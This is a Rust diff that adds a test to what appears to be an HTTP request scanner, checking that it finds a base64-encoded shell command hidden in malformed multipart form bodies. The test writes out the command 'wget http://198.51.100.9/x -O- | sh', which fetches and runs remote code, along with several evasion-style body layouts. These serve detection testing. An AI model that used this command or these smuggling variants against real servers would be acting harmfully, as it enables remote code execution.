@@ -273,3 +273,36 @@ fn what_explodes_is_cut_off() {
         .collect();
     assert!(found(format!("{POST}{many}").as_bytes()).len() <= MAX_PARTS);
 }
+
+/// `wget http://198.51.100.9/x -O- | sh` in base64.
+const HIDDEN: &str = "d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3ggLU8tIHwgc2g=";
+const COMMAND: &str = "wget http://198.51.100.9/x -O- | sh";
+
+fn finds_command(head: &str, body: &[u8]) -> bool {
+    let raw = [format!("POST / HTTP/1.1\r\n{head}\r\n").as_bytes(), body].concat();
+    found(&raw).iter().any(|(_, bytes)| bytes.contains(COMMAND))
+}
+
+#[test]
+fn what_is_in_no_part_of_a_form_is_looked_at() {
+    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n";
+    for body in [
+        format!("--b\nContent-=1&cmd={HIDDEN}"),
+        format!("--b\nContent-=1&cmd={HIDDEN}\n\n"),
+        format!("--b=1&cmd={HIDDEN}\nContent-\n\n"),
+        format!("{part}--b=1&cmd={HIDDEN}\n\n"),
+        format!("{part}--b--\r\n{HIDDEN}"),
+        format!("{part}--b--\r\n\r\n{HIDDEN}"),
+        format!("{part}--b\r\n{HIDDEN}\r\n--b--\r\n"),
+        format!(
+            "{}--b\r\nX: y\r\n\r\n{HIDDEN}\r\n--b--\r\n",
+            part.repeat(40)
+        ),
+        format!(
+            "{}--b\r\nX: y\r\n\r\n{HIDDEN}\r\n--b--\r\n",
+            part.repeat(900)
+        ),
+    ] {
+        assert!(finds_command("", body.as_bytes()), "{body:.200}");
+    }
+}
